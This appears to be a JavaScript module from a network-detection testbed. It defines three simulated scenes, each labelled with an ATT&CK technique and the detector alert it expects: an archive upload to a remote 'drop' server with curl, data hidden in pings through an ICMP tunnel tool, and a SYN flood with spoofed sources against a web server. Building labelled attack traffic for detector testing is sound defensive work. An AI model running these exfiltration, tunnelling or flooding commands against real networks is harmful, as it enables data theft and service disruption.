import { fileURLToPath } from 'node:url';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { now, sleep } from '../../processes.mjs';
import { serveWeb } from '../../servers/nginx.mjs';
import { page, scene, silent } from './scene.mjs';

const TUNNEL = fileURLToPath(new URL('../../tools/icmp-tunnel.py', import.meta.url));
const FLOOD = fileURLToPath(new URL('../../tools/syn-flood.py', import.meta.url));

/** Much sent out: small enough to be kept, so its label says with which parameter it is to be found. */
export const exfiltration = scene({
  name: 'exfiltration',
  title:
    'A host sends an archive to a server elsewhere, beside downloads (small: found with `megabytes` as its label says)',
  commands: ['nginx', 'curl'],
  prepare: async ({ network, rng, runDir, remote }) => {
    const thief = await network.addHost('desk-1');
    const desk = await network.addHost('desk-2');
    const drop = await remote('drop');
    const archive = join(runDir, 'archive.bin');
    const bytes = rng.int(1_200_000, 1_500_000);
    await writeFile(archive, rng.bytes(bytes));
    await writeFile(join(runDir, 'page.bin'), rng.bytes(rng.int(100_000, 200_000)));
    await serveWeb(drop, {
      tcp: [80],
      sites: [
        `server { listen 80; server_name _; location /up/ { root ${drop.dir}; dav_methods PUT; create_full_put_path on; client_max_body_size 8m; } location / { root ${runDir}; } }`,
      ],
    });
    return { thief, desk, drop, archive, bytes };
  },
  play: async ({ labels, rng }, { thief, desk, drop, archive, bytes }) => {
    await labels.act(desk, { ...page(drop.elsewhere, 80, '/page.bin'), what: 'downloads a file' });
    await sleep(rng.gap(300));
    await labels.act(thief, {
      what: 'sends an archive out',
      technique: 'exfiltration',
      attack: 'T1048',
      malicious: true,
      argv: [
        'curl',
        '-s',
        '-m',
        '30',
        '-o',
        '/dev/null',
        '--limit-rate',
        '1M',
        '-T',
        archive,
        `http://${drop.elsewhere}/up/${rng.hex(4)}.bin`,
      ],
      flows: [{ proto: 'tcp', dst: drop.elsewhere, dst_port: 80, app: 'http' }],
      details: { bytes },
      expect: {
        notice: { note: 'exfiltration', src: thief.address, dst: drop.elsewhere },
        params: { exfiltration: { megabytes: 1 } },
      },
    });
    await labels.act(desk, { ...page(drop.elsewhere, 80, '/page.bin'), what: 'downloads a file' });
  },
});

export const icmpTunnel = scene({
  name: 'icmp-tunnel',
  title: 'Data in pings, beside ordinary and large pings',
  commands: ['ping', 'python3'],
  prepare: async ({ network, rng, remote }) => {
    const thief = await network.addHost('desk-1');
    const desk = await network.addHost('desk-2');
    const gate = await network.addHost('gate', { kind: 'router' });
    const far = await remote('far');
    await silent(far);
    await far.serve(['/usr/bin/python3', TUNNEL, 'serve', far.elsewhere, rng.hex(4)]);
    return { thief, desk, gate, far };
  },
  play: async ({ labels, rng }, { thief, desk, gate, far }) => {
    const ping = (size, count) => ({
      what: size > 100 ? 'tests the path with large pings' : 'pings',
      technique: 'icmp',
      argv: ['ping', '-n', '-q', '-i', '0.05', '-s', String(size), '-c', String(count), gate.address],
      flows: [{ proto: 'icmp', dst: gate.address, app: null }],
    });
    await labels.act(desk, ping(56, rng.int(10, 20)));
    await labels.act(thief, {
      what: 'sends data in pings',
      technique: 'icmp-tunnel',
      attack: 'T1095',
      malicious: true,
      tool: 'icmp-tunnel.py',
      rawSource: null,
      argv: ['/usr/bin/python3', TUNNEL, 'send', far.elsewhere, String(rng.int(60, 120)), rng.hex(4)],
      flows: [{ proto: 'icmp', dst: far.elsewhere, app: null }],
      expect: { notice: { note: 'icmp-tunnel', src: thief.address, dst: far.elsewhere } },
    });
    await labels.act(desk, ping(rng.int(1000, 1400), rng.int(20, 30)));
  },
});

export const synFlood = scene({
  name: 'syn-flood',
  title: 'SYNs of invented sources at one port of a web server, beside its ordinary clients',
  commands: ['nginx', 'curl', 'python3'],
  prepare: async ({ network }) => {
    const server = await network.addHost('server', { kind: 'server' });
    const desk = await network.addHost('desk-1');
    const flooder = await network.addHost('guest', { kind: 'board' });
    await serveWeb(server, {
      tcp: [80],
      sites: ['server { listen 80; server_name _; location / { return 200 "works\\n"; } }'],
    });
    return { server, desk, flooder };
  },
  play: async ({ labels, rng }, { server, desk, flooder }) => {
    const network = rng.pick(['203.0.113', '198.51.100']);
    const reads = async (count) => {
      for (let i = 0; i < count; i++) {
        await labels.act(desk, { ...page(server.address, 80), what: 'reads a page' });
        await sleep(rng.gap(150));
      }
    };
    await reads(6);
    const start = now();
    await flooder.exec([
      '/usr/bin/python3',
      FLOOD,
      network,
      server.address,
      '80',
      String(rng.int(1500, 2200)),
      String(rng.int(400, 700)),
      rng.hex(4),
    ]);
    labels.add({
      what: 'floods a port with SYNs of invented sources',
      technique: 'syn-flood',
      attack: 'T1499.001',
      malicious: true,
      tool: 'syn-flood.py',
      command: 'syn-flood.py',
      host: flooder.name,
      start,
      end: now(),
      flows: [],
      details: { sources: `${network}.0/24`, port: 80 },
      expect: { notice: { note: 'flood', sub: 'syn', src: null, dst: server.address } },
    });
    await reads(4);
  },
});
